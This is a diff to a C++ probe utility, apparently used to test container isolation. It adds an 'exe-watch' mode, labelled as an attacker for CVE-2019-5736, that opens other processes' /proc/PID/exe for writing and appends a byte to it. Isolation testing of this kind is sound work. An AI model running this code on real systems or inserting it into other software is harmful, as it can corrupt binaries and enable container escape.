@@ -4,11 +4,19 @@
 //   probe shm-write KEY TEXT   create a SysV segment with KEY and write TEXT
 //   probe shm-read KEY         print the segment's text (exit 1 if there is none)
 //   probe udp-echo PORT        answer every UDP datagram on PORT with "echo: " and its text
+//   probe exe-watch SECONDS    an attacker (CVE-2019-5736): for SECONDS, watch /proc for any
+//                              other process and try to open its /proc/PID/exe for writing;
+//                              print one line per process seen: "EXE-LINK ERRNO" (0: written)
+#include <dirent.h>
+#include <fcntl.h>
 #include <netinet/in.h>
+#include <time.h>
+#include <unistd.h>
 #include <sys/ipc.h>
 #include <sys/shm.h>
 #include <sys/socket.h>
 
+#include <cerrno>
 #include <cstdio>
 #include <cstdlib>
 #include <cstring>
@@ -44,6 +52,33 @@ int main(int argc, char** argv) {
       if (n > 0) sendto(fd, buf, static_cast<size_t>(n) + 6, 0, reinterpret_cast<sockaddr*>(&peer), len);
     }
   }
-  std::fprintf(stderr, "usage: probe shm-write KEY TEXT | shm-read KEY | udp-echo PORT\n");
+  if (argc >= 3 && std::strcmp(argv[1], "exe-watch") == 0) {
+    time_t end = time(nullptr) + std::atoi(argv[2]);
+    int self = getpid();
+    static int seen[65536];
+    while (time(nullptr) < end) {
+      DIR* d = opendir("/proc");
+      while (dirent* e = d ? readdir(d) : nullptr) {
+        int pid = std::atoi(e->d_name);
+        if (pid <= 1 || pid == self || pid >= 65536 || seen[pid]) continue;
+        char path[64], link[512] = {};
+        std::snprintf(path, sizeof path, "/proc/%d/exe", pid);
+        ssize_t n = readlink(path, link, sizeof link - 1);
+        int fd = open(path, O_WRONLY | O_APPEND);
+        int err = fd >= 0 ? 0 : errno;
+        if (fd >= 0) {
+          if (write(fd, "", 0) < 0 || write(fd, "#", 1) != 1) err = errno;  // 0 stays: it was written
+          close(fd);
+        }
+        if (n <= 0 && err == ENOENT) continue;  // gone already
+        seen[pid] = 1;
+        std::printf("%s %d\n", n > 0 ? link : "(unreadable)", err);
+        std::fflush(stdout);
+      }
+      if (d) closedir(d);
+    }
+    return 0;
+  }
+  std::fprintf(stderr, "usage: probe shm-write KEY TEXT | shm-read KEY | udp-echo PORT | exe-watch SECONDS\n");
   return 2;
 }
